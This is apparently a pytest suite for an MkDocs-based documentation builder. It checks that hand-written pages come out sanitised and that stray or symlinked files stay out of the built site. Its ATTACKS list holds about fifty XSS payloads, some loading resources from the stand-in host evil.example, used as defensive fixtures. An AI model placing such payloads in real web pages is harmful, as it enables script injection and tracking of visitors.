"""What lies beside the sources: pages written by hand come into the site with nothing in them that runs, other files do not."""

import os
import re

import pytest
from small_book import PROCEDURE, sources
from test_mkdocs_plugin import build
from test_pictures import png
from what_runs import what_runs, what_runs_in

from witnessmark.prove import check
from witnessmark.pages.plain_html import plain_html

ATTACKS = [
    "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>", "<a href='javascript:alert(1)'>x</a>", "<a href=' java\tscript:alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe src=https://evil.example></iframe>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<form action=javascript:alert(1)><button>x</button></form>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css'</style>",
    "<details open ontoggle=alert(1)>x</details>", "<p style='position:fixed;inset:0;background:url(//evil.example)'>x</p>", "<math><mtext><script>alert(1)</script></mtext></math>",
    "<input autofocus onfocus=alert(1)>", "<b onmouseover=alert(1)>x</b>", "<img src=//evil.example/pixel.png>", "<img src=https://evil.example/pixel.png>",
    "<img src=/\\evil.example/pixel.png>", "<template><script>alert(1)</script></template>", "<!--><script>alert(1)</script>-->", "<p title='\"><script>alert(1)</script>'>x</p>",
    "</p></article></main><script>alert(1)</script>", "<scr<script>ipt>alert(1)</script>", "<script\n>alert(1)</script>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<textarea></textarea><script>alert(1)</script>",
    "[x](javascript:alert(1))", "[x](data:text/html,y)", "![x](https://evil.example/pixel.png)", "<javascript:alert(1)>", "[x]: javascript:alert(1)\n\nsee [x]", "[x](vbscript:a)",
    "word {: onclick=alert(1) }", "# Head {: #a\"><script>alert(1)</script> }", "```{ .x onclick=alert(1) }\ny\n```", "## <script>alert(1)</script>", "## &lt;script&gt;alert(1)&lt;/script&gt;",
    "| <script>alert(1)</script> | b |\n|---|---|\n| [x](javascript:alert(1)) | c |", "`</code><script>alert(1)</script>`",
]
FRONT = "---\ntitle: \"</title><script>alert(1)</script>\"\ndescription: '\"><script>alert(1)</script>'\ntemplate: x.html\nauthor: <script>alert(1)</script>\n---\n\n"
EXTENSIONS = "markdown_extensions: [attr_list, md_in_html, admonition, def_list, footnotes]\n"


@pytest.fixture(scope="module")
def plain_site(tmp_path_factory):
    """Of the same sorts of pages without anything hostile in them."""
    folder = tmp_path_factory.mktemp("plain")
    (folder / "procedures").mkdir()
    (folder / "procedures/notes.md").write_text("# Notes\n\n## More\n\n* *a* **b** `c` [d](e.md)\n\n1. f\n\n| a | b |\n|--:|---|\n| 1 | 2 |\n\n> q\n\n```\nx\n```\n")
    assert build(folder).returncode == 0
    return folder / "site"


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "procedures/hoist").mkdir(parents=True)
    (folder / "procedures/index.md").write_text(f"{FRONT}# Home\n\n" + "\n\n".join(ATTACKS), encoding="utf-8")
    for number, attack in enumerate(ATTACKS):
        (folder / f"procedures/page-{number}.md").write_text(f"{FRONT if number % 2 else ''}{attack}\n", encoding="utf-8")
    done = build(folder, config=EXTENSIONS)
    assert done.returncode == 0, done.stderr
    return folder / "site"


def test_nothing_in_a_page_written_by_hand_runs_or_calls_out(plain_site, hostile_site):
    words = {"<h3>", "<b>", "<details>", "<img>", "<input>", "<p>", "<pre>"}
    assert what_runs_in(hostile_site) - what_runs_in(plain_site) - words == set()
    assert "alert(1)" in (hostile_site / "page-0/index.html").read_text()          # it stands there, as text
    assert len(list(hostile_site.glob("page-*/index.html"))) == len(ATTACKS)


def test_the_reader_of_these_tests_sees_what_runs():
    assert len(what_runs("<script>a</script><img onerror=b src=c><a href=javascript:d>")) == 6


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_could_run_is_printed_as_text_or_left_out(attack):
    found = what_runs(plain_html(attack)) - {"<a>", "<b>", "<p>", "<img>", "<details>", "<code>"}
    assert found == set() and plain_html(plain_html(attack)).count("<") == plain_html(attack).count("<")


@pytest.mark.parametrize("html", [
    '<h1 id="a">A <em>b</em> &amp; c &lt;d&gt;</h1>', '<p><a href="../x/#y">z</a> <a href="https://x.example/?a=1&amp;b=2">z</a> <a href="mailto:a@b.example">m</a></p>',
    '<img alt="cup" src="cup.png">', '<table><tr><td style="text-align: right;">1</td></tr></table>', '<pre><code class="language-x">a &lt; b\n</code></pre>',
    '<li class="task"><input type="checkbox" disabled=""> x</li>', "<p>3 &lt; 4 &#8212; 5 > 2</p>".replace(" >", " &gt;")])
def test_what_a_page_may_hold_stays_as_it_is(html):
    assert plain_html(html) == html


STRAY = {"evil.html": b"<script>alert(1)</script>", "plan.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "x.js": b"alert(1)",
         "x.css": b"body{}", "x.xml": b"<x/>", "x.pdf": b"%PDF", "unused.png": png(3, 3), "robots.txt": b"x", "polyglot.png.html": png(3, 3, b"<script>")}


def written(folder, **files):
    (folder / "procedures/hoist/deep").mkdir(parents=True)
    for name, data in files.items():
        (folder / "procedures" / name).write_bytes(data)
    return folder


def test_only_pages_and_named_pictures_come_into_the_site(tmp_path):
    hidden = {".htaccess": b"x", "hoist/.hidden.html": b"<script>alert(1)</script>"}
    shown = {"hoist/shown.png": png(4, 4), "hoist/deep/far.png": png(5, 5)}
    pages = {"index.md": b"# Home\n\n![Far](hoist/deep/far.png)\n", "hoist/notes.md": b'Look: <img src="shown.png">\n'}
    folder = written(tmp_path, **{f"hoist/{name}": data for name, data in STRAY.items()}, **hidden, **shown, **pages)
    done = build(folder)
    assert done.returncode == 0, done.stderr
    site = folder / "site"
    ours = {path.relative_to(site).as_posix() for path in site.rglob("*") if path.is_file() and not path.relative_to(site).as_posix().startswith("assets/")}
    assert {name for name in ours if not name.endswith((".html", ".json", ".js"))} == {"hoist/shown.png", "hoist/deep/far.png", "sitemap.xml", "sitemap.xml.gz", "manifest.webmanifest"}
    assert not any(name.rpartition("/")[2] in STRAY or "hidden" in name or "htaccess" in name for name in ours)
    for name in STRAY:
        assert f"procedures/hoist/{name}:1:1: warning: no source names this file, so the site does not hold it" in done.stderr
    assert len(check(folder).findings) == len(STRAY)
    assert build(folder, PROCEDURE, "--strict").returncode == 1


def test_the_picture_of_a_page_must_be_a_picture(tmp_path):
    folder = written(tmp_path, **{"notes.md": b"![x](cup.png)\n", "cup.png": b"<script>alert(1)</script>"})
    assert build(folder).returncode == 1
    [finding] = check(folder).findings
    assert finding.line().startswith("procedures/cup.png:1:1: error: a page shows this picture, but it is no picture")


def test_a_page_that_is_no_text_is_a_finding(tmp_path):
    folder = written(tmp_path, **{"notes.md": b"a\n\xff\n"})
    done = build(folder)
    assert done.returncode == 1 and "procedures/notes.md:2:1: error: a character here is not UTF-8" in done.stderr and "Traceback" not in done.stderr


def test_a_page_written_by_hand_never_takes_the_place_of_a_procedure_or_a_sheet(tmp_path):
    folder = written(tmp_path, **{"hoist/drum.md": b"Press to 99 tons.\n"})
    for name in ("hoist/drum/sheet/late.md", "press/P20.md"):
        (folder / "procedures" / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / "procedures" / name).write_text("Press to 99 tons.\n")
    done = build(folder)
    assert done.returncode == 0 and done.stderr.count("a page of the book stands at this address") == 3
    assert not any("99 tons" in page.read_text() for page in (folder / "site").rglob("*.html"))


def test_a_folder_that_is_a_link_out_of_the_book_brings_no_page_in(tmp_path):
    folder = written(tmp_path / "book")
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside/secret.md").write_text("secret words\n")
    os.symlink(tmp_path / "outside", folder / "procedures/more")
    for file in sources():
        (folder / file.path).parent.mkdir(parents=True, exist_ok=True)
        (folder / file.path).write_text(file.text, encoding="utf-8")
    assert [finding.place.path for finding in check(folder).findings] == ["procedures/more"]
    assert build(folder).returncode == 1
    assert not (folder / "site").exists() or not any(re.search("secret words", page.read_text()) for page in (folder / "site").rglob("*.html"))
